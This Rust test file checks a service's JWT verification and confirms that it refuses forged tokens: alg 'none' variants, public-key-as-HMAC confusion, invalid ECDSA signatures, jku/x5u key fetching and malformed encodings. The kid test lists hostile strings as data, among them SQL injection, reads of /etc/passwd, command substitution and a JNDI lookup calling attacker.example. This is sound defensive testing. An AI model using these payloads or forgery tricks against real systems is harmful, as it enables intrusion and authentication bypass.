//! A token counts if one of the known keys has signed it, with the one algorithm that the key is for.

use std::net::TcpListener;

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE};
use openssl::bn::BigNum;
use openssl::ecdsa::EcdsaSig;
use openssl::pkey::PKey;
use openssl::rsa::Rsa;
use serde_json::{Value, json};

use super::{
    admin, app_with_each_key, app_with_keys, assert_accepted, assert_refused, key_set, known_key,
};
use crate::support::app::TestApp;
use crate::support::postgres::plain;
use crate::support::secrets::store;
use crate::support::tls::Authority;
use crate::support::token::{SigningKey, base64url};

const NO_KEY: &str = "no known key has signed it";
const MALFORMED: &str = "it is malformed";

/// Header and claims, and the signature.
fn parts(token: &str) -> (&str, &str) {
    token.rsplit_once('.').expect("splitting a token")
}

#[tokio::test]
async fn each_algorithm_is_verified_with_its_own_key() {
    let database = plain().database();
    let app = app_with_each_key(&database).await;
    for key in SigningKey::each() {
        let name = key.algorithm();
        assert_accepted(&app, &key.token(Some(name), &admin()), name).await;
        assert_accepted(&app, &key.token(None, &admin()), "no kid: any key may fit").await;
        let token = key.token(Some(name), &admin());
        let (message, _) = parts(&token);
        let others = key.token(Some(name), &admin());
        let (_, other_signature) = parts(&others);
        assert_refused(
            &app,
            &format!("{message}.{other_signature}"),
            NO_KEY,
            "another token's signature",
        )
        .await;
    }
    for stranger in [
        SigningKey::hs256("another key that is long enough for HS256"),
        SigningKey::rs256(),
        SigningKey::es256(),
        SigningKey::ed25519(),
    ] {
        let name = stranger.algorithm();
        for id in [Some(name), None] {
            assert_refused(&app, &stranger.token(id, &admin()), NO_KEY, name).await;
        }
    }
}

/// RFC 7518, sections 2 and 3.3: a number has one spelling, and some issuers write a zero before it all the same; a short one is
/// no key.
#[tokio::test]
async fn an_rsa_key_is_long_whatever_zeros_are_before_it() {
    let database = plain().database();
    let key = SigningKey::rs256();
    let mut jwk = key.jwk("padded");
    let modulus = key.pair().rsa().expect("reading an RSA key").n().to_vec();
    jwk["n"] = json!(base64url([&[0], &modulus[..]].concat()));
    let set = store().create(&json!({ "keys": [jwk] }));
    let app = app_with_keys(&database, &set).await;
    assert_accepted(&app, &key.token(Some("padded"), &admin()), "a zero before").await;

    let short = Rsa::generate(1024).expect("making an RSA key");
    let short = SigningKey::Rs256(PKey::from_rsa(short).expect("wrapping a key"));
    let set = store().create(&key_set(&[("short", &short)]));
    let app = app_with_keys(&database, &set).await;
    let answer = super::ask(&app, &short.token(Some("short"), &admin())).await;
    assert_eq!(
        (answer.status, answer.problem().as_str()),
        (503, "secret_unavailable")
    );
}

#[tokio::test]
async fn a_secret_as_plain_text_is_an_hs256_key() {
    let database = plain().database();
    let app = TestApp::new(&database).await;
    assert_accepted(&app, &known_key().token(None, &admin()), "plain text").await;
    assert_accepted(
        &app,
        &known_key().token(Some("any"), &admin()),
        "it has no name to compare",
    )
    .await;
}

#[tokio::test]
async fn alg_none_is_nobodys_signature() {
    let database = plain().database();
    let (secret, sets) = (
        TestApp::new(&database).await,
        app_with_each_key(&database).await,
    );
    for algorithm in [
        "none",
        "None",
        "NONE",
        "nOnE",
        "",
        "null",
        " none",
        "none\u{0}",
    ] {
        let header = json!({ "alg": algorithm, "typ": "JWT" }).to_string();
        let (header, claims) = (base64url(header), base64url(admin().to_string()));
        let good = known_key().token(None, &admin());
        let (_, signature) = parts(&good);
        for token in [
            format!("{header}.{claims}."),
            format!("{header}.{claims}"),
            format!("{header}.{claims}.{signature}"),
            format!("{header}.{claims}.{}", base64url("x")),
            known_key().token_with(
                &json!({ "alg": algorithm }).to_string(),
                &admin().to_string(),
            ),
        ] {
            for app in [&secret, &sets] {
                assert_refused(app, &token, MALFORMED, algorithm).await;
            }
        }
    }
    for header in [
        "{}",
        r#"{"typ":"JWT"}"#,
        r#"{"alg":null}"#,
        r#"{"alg":["HS256"]}"#,
        "[]",
        "",
    ] {
        let token = known_key().token_with(header, &admin().to_string());
        assert_refused(&secret, &token, MALFORMED, header).await;
    }
    let unsigned = known_key().token(None, &admin());
    let (message, _) = parts(&unsigned);
    assert_refused(
        &secret,
        &format!("{message}."),
        NO_KEY,
        "HS256 without a signature",
    )
    .await;
}

/// What is public of a key pair, in every form in which a library might take it for an HMAC secret.
fn public_forms(key: &SigningKey) -> Vec<(&'static str, Vec<u8>)> {
    let pair = key.pair();
    let pem = pair.public_key_to_pem().expect("encoding a public key");
    let der = pair.public_key_to_der().expect("encoding a public key");
    let pem_text = String::from_utf8(pem.clone()).expect("reading a PEM");
    let body: String = pem_text
        .lines()
        .filter(|line| !line.starts_with('-'))
        .collect();
    let jwk = key.jwk(key.algorithm());
    let mut forms = vec![
        ("PEM", pem),
        ("PEM, trimmed", pem_text.trim().as_bytes().to_vec()),
        ("PEM with CRLF", pem_text.replace('\n', "\r\n").into_bytes()),
        ("a PEM's base64", body.into_bytes()),
        ("DER", der),
        ("JWK", jwk.to_string().into_bytes()),
        ("JWK set", json!({ "keys": [jwk] }).to_string().into_bytes()),
        ("nothing", Vec::new()),
    ];
    for name in ["n", "x", "y"] {
        if let Some(value) = jwk[name].as_str() {
            forms.push(("a member of the JWK", value.as_bytes().to_vec()));
            let bytes = base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(value);
            forms.push(("a member's bytes", bytes.expect("decoding a member")));
        }
    }
    if let Ok(rsa) = pair.rsa() {
        let pkcs1 = rsa.public_key_to_pem_pkcs1().expect("encoding a key");
        let der = rsa.public_key_to_der_pkcs1().expect("encoding a key");
        forms.extend([("PKCS #1 PEM", pkcs1), ("PKCS #1 DER", der)]);
    }
    forms
}

/// CVE-2015-9235 and its many children: the verifier takes the algorithm from the token and the public key for a secret.
#[tokio::test]
async fn a_public_key_is_no_hmac_secret() {
    let database = plain().database();
    let each = app_with_each_key(&database).await;
    for key in &SigningKey::each()[1..] {
        let name = key.algorithm();
        let set = store().create(&key_set(&[(name, key)]));
        let alone = app_with_keys(&database, &set).await;
        assert_accepted(&alone, &key.token(Some(name), &admin()), name).await;
        for (form, bytes) in public_forms(key) {
            let forger = SigningKey::hs256(bytes);
            for id in [Some(name), Some("HS256"), None] {
                let token = forger.token(id, &admin());
                for app in [&alone, &each] {
                    assert_refused(app, &token, NO_KEY, &format!("{name}: {form}")).await;
                }
            }
        }
    }
}

/// The operator's mistake that would make it one: a public key in the place of the HS256 secret.
#[tokio::test]
async fn a_public_key_stored_as_the_secret_is_refused_as_a_secret() {
    let database = plain().database();
    let key = &SigningKey::each()[1];
    let pem = key.pair().public_key_to_pem().expect("encoding a key");
    let secret = store().create_text(&String::from_utf8_lossy(&pem));
    let app = app_with_keys(&database, &secret).await;
    for forger in [SigningKey::hs256(pem), key.clone()] {
        let answer = super::ask(&app, &forger.token(None, &admin())).await;
        assert_eq!(
            (answer.status, answer.problem().as_str()),
            (503, "secret_unavailable")
        );
    }
}

#[tokio::test]
async fn another_algorithm_of_the_same_family_is_refused() {
    let database = plain().database();
    let app = app_with_each_key(&database).await;
    let [hmac, rsa, ec, ed] = SigningKey::each();
    for (key, algorithms) in [
        (hmac, &["HS384", "HS512", "RS256", "EdDSA"][..]),
        (rsa, &["RS384", "RS512", "PS256", "PS512", "HS256", "ES256"]),
        (ec, &["ES384", "ES512", "ES256K", "RS256", "EdDSA"]),
        (ed, &["Ed25519", "Ed448", "ES256", "HS256"]),
    ] {
        for algorithm in algorithms {
            let header = json!({ "alg": algorithm, "kid": key.algorithm() }).to_string();
            let token = key.token_with(&header, &admin().to_string());
            assert_refused(
                &app,
                &token,
                "",
                &format!("{algorithm} by a key for {}", key.algorithm()),
            )
            .await;
        }
        let lower = json!({ "alg": key.algorithm().to_lowercase() }).to_string();
        let token = key.token_with(&lower, &admin().to_string());
        assert_refused(&app, &token, MALFORMED, &lower).await;
    }
}

#[tokio::test]
async fn a_kid_is_compared_and_nothing_else() {
    let database = plain().database();
    let app = app_with_each_key(&database).await;
    let (ours, stranger) = (&SigningKey::each()[2], SigningKey::es256());
    for id in [
        "",
        "es256",
        "ES256 ",
        "ES256\u{0}",
        "RS256",
        "' or 1=1 --",
        "ES256' union select 'a secret' --",
        "'; drop schema monitoring cascade; --",
        "../../../../dev/null",
        "/dev/null",
        "/proc/self/environ",
        "file:///etc/passwd",
        "https://attacker.example/key",
        "| cat /etc/passwd",
        "$(id)",
        "${jndi:ldap://attacker.example/a}",
        "%s%n",
        "\r\nX-Injected: 1",
        "ＥＳ２５６",
        &"k".repeat(2_000),
    ] {
        assert_refused(&app, &ours.token(Some(id), &admin()), NO_KEY, id).await;
        assert_refused(&app, &stranger.token(Some(id), &admin()), NO_KEY, id).await;
        // Where a path or a query in it were followed, it would lead to an empty key or to a known one.
        for secret in ["", "a secret", "\0"] {
            let forged = SigningKey::hs256(secret).token(Some(id), &admin());
            assert_refused(&app, &forged, NO_KEY, id).await;
        }
    }
    for id in [json!(1), json!(["ES256"]), json!({"$ne": ""}), json!(true)] {
        let header = json!({ "alg": "ES256", "kid": id }).to_string();
        let token = ours.token_with(&header, &admin().to_string());
        assert_refused(&app, &token, MALFORMED, &header).await;
    }
    let tables = database.psql(
        crate::support::postgres::SUPERUSER,
        "select count(*) > 0 from monitoring.settings",
    );
    assert_eq!(tables.as_deref(), Ok("t\n"));
}

#[tokio::test]
async fn the_kid_of_another_key_does_not_help() {
    let database = plain().database();
    let (one, two) = (SigningKey::es256(), SigningKey::es256());
    let set = store().create(&key_set(&[("one", &one), ("two", &two)]));
    let app = app_with_keys(&database, &set).await;
    for (key, id, is_known) in [
        (&one, "one", true),
        (&two, "two", true),
        (&one, "two", false),
        (&two, "one", false),
        (&SigningKey::es256(), "one", false),
    ] {
        let token = key.token(Some(id), &admin());
        if is_known {
            assert_accepted(&app, &token, id).await;
        } else {
            assert_refused(&app, &token, NO_KEY, id).await;
        }
    }
}

/// The key that a token brings along, or says where to fetch, is whoever made the token's.
#[tokio::test]
async fn a_key_that_the_token_brings_or_points_at_is_not_used() {
    let database = plain().database();
    let app = app_with_each_key(&database).await;
    let trap = TcpListener::bind("127.0.0.1:0").expect("listening");
    trap.set_nonblocking(true).expect("not waiting");
    let url = format!("http://{}/jwks.json", trap.local_addr().expect("a port"));
    let certificate = Authority::new("attacker").issue_local().certificate_pem;
    let certificate: String = String::from_utf8_lossy(&certificate)
        .lines()
        .filter(|line| !line.starts_with('-'))
        .collect();
    for attacker in [
        SigningKey::hs256("an attacker's key, long enough for HS256"),
        SigningKey::rs256(),
        SigningKey::es256(),
        SigningKey::ed25519(),
    ] {
        let jwk = attacker.jwk("attacker");
        for (name, value) in [
            ("jku", json!(url)),
            ("x5u", json!(url)),
            ("jwk", jwk.clone()),
            ("x5c", json!([certificate])),
            ("x5t", json!(base64url("thumbprint"))),
            ("x5t#S256", json!(base64url("thumbprint"))),
            ("keys", json!([jwk])),
        ] {
            for id in [attacker.algorithm(), "attacker"] {
                let mut header = json!({ "alg": attacker.algorithm(), "kid": id });
                header[name] = value.clone();
                let token = attacker.token_with(&header.to_string(), &admin().to_string());
                assert_refused(&app, &token, "", &header.to_string()).await;
            }
        }
    }
    // They are allowed beside a good signature, and still ignored.
    let ours = &SigningKey::each()[2];
    let header = json!({ "alg": "ES256", "kid": "ES256", "jku": url, "x5u": url });
    let token = ours.token_with(&header.to_string(), &admin().to_string());
    assert_accepted(&app, &token, "a good signature").await;
    let visitor = trap.accept().map(drop).map_err(|error| error.kind());
    assert_eq!(visitor, Err(std::io::ErrorKind::WouldBlock), "{url}");
}

/// RFC 7515, section 4.1.11: who does not understand an extension that is critical must refuse.
#[tokio::test]
async fn a_critical_extension_is_refused() {
    let database = plain().database();
    let app = TestApp::new(&database).await;
    for header in [
        json!({ "alg": "HS256", "crit": ["exp"], "exp": 1 }),
        json!({ "alg": "HS256", "crit": ["b64"], "b64": false }),
        json!({ "alg": "HS256", "crit": ["https://example.com/x"], "https://example.com/x": 1 }),
        json!({ "alg": "HS256", "crit": [] }),
        json!({ "alg": "HS256", "crit": "exp" }),
        json!({ "alg": "HS256", "crit": {} }),
    ] {
        let token = known_key().token_with(&header.to_string(), &admin().to_string());
        assert_refused(&app, &token, MALFORMED, &header.to_string()).await;
    }
}

#[tokio::test]
async fn a_header_that_says_something_twice_is_refused() {
    let database = plain().database();
    let app = app_with_each_key(&database).await;
    let key = &SigningKey::each()[0];
    for header in [
        r#"{"alg":"none","alg":"HS256"}"#,
        r#"{"alg":"HS256","alg":"none"}"#,
        r#"{"alg":"HS256","alg":"HS256"}"#,
        r#"{"alg":"HS256","kid":"x","kid":"HS256"}"#,
        r#"{"alg":"HS256","kid":"HS256","kid":"x"}"#,
        r#"{"alg":"HS256","crit":["x"],"crit":null}"#,
        r#"{"alg":"HS256"}{"alg":"HS256"}"#,
        r#"{"alg":"HS256"} x"#,
    ] {
        let token = key.token_with(header, &admin().to_string());
        assert_refused(&app, &token, MALFORMED, header).await;
    }
}

/// CVE-2022-21449 ("psychic signatures") and its relatives.
#[tokio::test]
async fn an_es256_signature_is_two_numbers_in_range_and_nothing_else() {
    let database = plain().database();
    let app = app_with_each_key(&database).await;
    let key = &SigningKey::each()[2];
    let token = key.token(Some("ES256"), &admin());
    let (message, _) = parts(&token);
    let good = key.signature(message.as_bytes());
    assert_accepted(
        &app,
        &format!("{message}.{}", base64url(&good)),
        "well signed",
    )
    .await;
    let numbers = EcdsaSig::from_private_components(
        BigNum::from_slice(&good[..32]).expect("reading r"),
        BigNum::from_slice(&good[32..]).expect("reading s"),
    );
    let der = numbers.and_then(|numbers| numbers.to_der());
    let order = "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551";
    let order = BigNum::from_hex_str(order).expect("reading a number");
    let order = order.to_vec();
    let one = [vec![0; 31], vec![1]].concat();
    for (what, signature) in [
        ("DER", der.expect("encoding a signature")),
        ("zeros", vec![0; 64]),
        ("r is zero", [vec![0; 32], good[32..].to_vec()].concat()),
        ("s is zero", [good[..32].to_vec(), vec![0; 32]].concat()),
        ("both are one", [one.clone(), one].concat()),
        (
            "both are the order",
            [order.clone(), order.clone()].concat(),
        ),
        ("r is the order", [order, good[32..].to_vec()].concat()),
        ("ones", vec![255; 64]),
        ("swapped", [&good[32..], &good[..32]].concat()),
        ("too short", good[..63].to_vec()),
        ("too long", [&good[..], &[0]].concat()),
        ("twice", [&good[..], &good[..]].concat()),
        ("nothing", Vec::new()),
    ] {
        let token = format!("{message}.{}", base64url(signature));
        assert_refused(&app, &token, NO_KEY, what).await;
    }
}

/// One token has one spelling: a second one would slip past whoever lists the refused ones.
#[tokio::test]
async fn each_part_is_base64url_without_padding() {
    let database = plain().database();
    let app = TestApp::new(&database).await;
    let header = r#"{"alg":"HS256"}"#;
    let claims = caller_of_length(&admin(), 1);
    let good = known_key().token_with(header, &claims);
    assert_accepted(&app, &good, "well made").await;
    let parts: Vec<&str> = good.split('.').collect();
    let signed = |header: &str, claims: &str| {
        let message = format!("{header}.{claims}");
        let signature = base64url(known_key().signature(message.as_bytes()));
        format!("{message}.{signature}")
    };
    // With the signature over the padded words, since it is those that are signed.
    let padded = |text: &str| URL_SAFE.encode(text);
    assert!(padded(&claims).ends_with('='));
    let last = parts[2].len() - 1;
    for (what, token) in [
        ("a padded header", signed(&(padded(header) + "="), parts[1])),
        ("padded claims", signed(parts[0], &padded(&claims))),
        ("a padded signature", format!("{good}=")),
        (
            "a blank in it",
            format!("{}.{} .{}", parts[0], parts[1], parts[2]),
        ),
        (
            "a tab in it",
            format!("{}.{}\t.{}", parts[0], parts[1], parts[2]),
        ),
        (
            "bits that belong to no byte",
            format!(
                "{}.{}.{}{}",
                parts[0],
                parts[1],
                &parts[2][..last],
                odd(&parts[2][last..])
            ),
        ),
        (
            "the other alphabet",
            signed(parts[0], &STANDARD.encode("\u{3ff}\u{fff}>>>???")),
        ),
        ("a part more", format!("{good}.{}", parts[2])),
        ("a part less", format!("{}.{}", parts[0], parts[1])),
        ("an empty part", format!(".{}.{}", parts[1], parts[2])),
        ("dots", "..".to_owned()),
        ("a word", "token".to_owned()),
        ("no words", "a.b.c".to_owned()),
        (
            "five parts, like an encrypted one",
            format!("{good}.{}.{}", parts[2], parts[2]),
        ),
    ] {
        assert_refused(&app, &token, "", what).await;
    }
    for claims in ["", "null", "[]", "\"admin\"", "{", "{}x", "\u{feff}{}"] {
        let token = known_key().token_with(header, claims);
        assert_refused(&app, &token, "", claims).await;
    }
    for bytes in [
        &b"{\"sub\":\"\xff\"}"[..],
        b"{\"sub\":\"\\ud800\"}",
        b"\x00",
    ] {
        let token = signed(parts[0], &base64url(bytes));
        assert_refused(&app, &token, MALFORMED, "no UTF-8").await;
    }
}

/// The claims as text of a length that leaves a rest when divided by three, so that padding would be due.
fn caller_of_length(claims: &Value, rest: usize) -> String {
    let mut text = claims.to_string();
    while text.len() % 3 != rest {
        text.push(' ');
    }
    text
}

/// The next letter of the alphabet: the same byte, with another of the bits that decoding drops.
fn odd(letter: &str) -> char {
    let code = letter.bytes().next().expect("reading a letter");
    char::from(if code == b'9' { b'-' } else { code + 1 })
}

/// A key that nobody can use is no reason to refuse what the others have signed.
#[tokio::test]
async fn unusable_keys_in_the_set_do_not_hide_the_others() {
    let database = plain().database();
    let [_, rsa, ec, ed] = SigningKey::each();
    let broken = [
        json!({"kty": "EC", "crv": "P-256", "x": base64url([1; 32]), "y": base64url([1; 32]), "alg": "ES256"}),
        json!({"kty": "EC", "crv": "P-256", "x": "AA", "y": "AA"}),
        json!({"kty": "RSA", "n": "AA", "e": "AA"}),
        json!({"kty": "RSA", "n": "AQAB", "e": "AQAB", "alg": "RS256"}),
        json!({"kty": "OKP", "crv": "Ed25519", "x": "AA"}),
        json!({"kty": "OKP", "crv": "Ed25519", "x": base64url([255; 32])}),
        json!({"kty": "EC", "crv": "P-521", "x": "AA", "y": "AA"}),
        json!({"kty": "EC", "crv": "secp256k1", "x": "AA", "y": "AA"}),
        json!({"kty": "OKP", "crv": "X25519", "x": base64url([9; 32])}),
        json!({"kty": "RSA", "n": "AQAB", "e": "AQAB", "alg": "RSA-OAEP-256", "use": "enc"}),
        json!({"kty": "AKP", "alg": "ML-DSA-44", "pub": "AA"}),
        json!({"kty": "oct", "k": "c2hvcnQ"}),
    ];
    for before in [true, false] {
        let mut keys: Vec<Value> = broken.to_vec();
        let ours = [rsa, ec, ed].map(|key| {
            let mut jwk = key.jwk(key.algorithm());
            if let Some(jwk) = jwk.as_object_mut() {
                jwk.remove("kid");
            }
            jwk
        });
        keys.splice(if before { 0..0 } else { 12..12 }, ours);
        let set = store().create(&json!({ "keys": keys }));
        let app = app_with_keys(&database, &set).await;
        for key in [rsa, ec, ed] {
            let what = format!("{}, before the others: {before}", key.algorithm());
            assert_accepted(&app, &key.token(None, &admin()), &what).await;
            assert_accepted(&app, &key.token(Some("any"), &admin()), &what).await;
        }
        for forger in [SigningKey::es256(), SigningKey::hs256("short")] {
            assert_refused(&app, &forger.token(None, &admin()), NO_KEY, "a stranger").await;
        }
    }
}
